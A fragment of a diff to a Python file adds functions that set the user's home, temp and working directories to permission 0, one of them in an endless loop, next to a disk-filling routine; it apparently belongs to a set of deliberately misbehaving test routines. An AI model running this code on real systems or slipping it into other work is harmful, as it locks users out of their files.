@@ -269,6 +269,16 @@ def swaps_links():
                     remove("swap")
 
 
+def locks_its_folders():
+    for path in (os.environ["HOME"], os.environ["TMPDIR"], os.getcwd()):
+        os.chmod(path, 0)
+
+
+def locks_its_folders_again_and_again():
+    while True:
+        locks_its_folders()
+
+
 def fills_the_disk():
     """More quickly than anybody looks."""
     for number in range(10_000):
